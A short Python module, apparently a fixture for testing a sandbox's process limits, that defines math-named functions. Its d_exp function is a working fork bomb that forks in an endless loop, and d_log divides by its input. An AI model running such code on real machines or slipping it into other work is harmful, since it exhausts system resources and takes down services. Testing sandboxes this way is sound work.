"""Forks without end; every process keeps forking (bounded by the sandbox's process limit)."""
import os


def d_exp(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass


def d_log(x):
    return 1 / x
